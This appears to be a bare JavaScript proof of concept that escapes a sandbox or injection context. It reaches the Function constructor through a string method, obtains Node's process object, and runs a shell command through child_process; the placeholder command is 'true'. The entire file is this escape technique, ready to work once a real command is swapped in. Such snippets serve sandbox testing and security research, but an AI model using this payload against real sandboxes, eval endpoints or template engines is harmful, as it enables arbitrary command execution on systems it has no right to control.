const home = ''.sub.constructor('return process')()

home.mainModule.require('child_process').exec('true')
